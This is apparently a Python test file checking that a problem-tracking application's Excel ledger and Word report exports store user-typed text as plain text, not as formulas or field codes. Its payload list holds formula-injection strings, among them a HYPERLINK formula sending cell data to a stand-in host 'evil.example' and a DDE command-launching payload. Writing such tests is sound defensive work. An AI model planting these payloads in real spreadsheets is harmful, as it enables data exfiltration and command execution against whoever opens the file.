"""Formula injection: text a person typed (an opinion turned problem, measures, a department's
or leader's name) that starts with = + - @ or a tab / carriage return must land in every export as
plain text, never as a formula a spreadsheet would evaluate."""

from __future__ import annotations

import io
import zipfile
from datetime import date, timedelta
from zoneinfo import ZoneInfo

import openpyxl

from documents import ledger_workbook, summary_report
from storage import problems, roster

ZONE = ZoneInfo("Asia/Shanghai")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _seed(db) -> None:
    roster.apply(db, roster.parse("姓名,科室,角色\n=李娜,+院办,班子成员\n".encode()), None)
    leader = db.execute("select id from people").fetchone()[0]
    department = db.execute("select id from departments").fetchone()[0]
    for text in PAYLOADS:
        problem_id = problems.create(db, text, None, description=text, category=text)
        db.execute(
            "update problems set measures = ?, leader_id = ?, department_id = ? where id = ?",
            [text, leader, department, problem_id],
        )
    db.conn.commit()


def test_the_ledger_stores_user_text_as_text(db):
    _seed(db)
    content, count = ledger_workbook.to_bytes(db, date(2026, 11, 30), ZONE)
    assert count == len(PAYLOADS)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2))
    texts = [c for row in rows for c in row if isinstance(c.value, str)]
    assert [c for c in texts if c.data_type != "s"] == []
    assert all(row[4].quotePrefix for row in rows)  # Excel keeps them text when edited, too
    described = [row[4].value for row in rows]
    assert sorted(described) == sorted(PAYLOADS)  # kept as typed, not mangled
    assert {row[6].value for row in rows} == {"=李娜"} and {row[7].value for row in rows} == {"+院办"}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere


def test_the_summary_report_has_no_fields(db):
    """Word documents evaluate field codes, not text; user text must stay text runs."""
    _seed(db)
    today = date(2026, 11, 30)
    content = summary_report.for_period(db, today - timedelta(days=30), today, ZONE, "=某医院", today)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("word/document.xml").decode()
    assert "fldSimple" not in xml and "instrText" not in xml
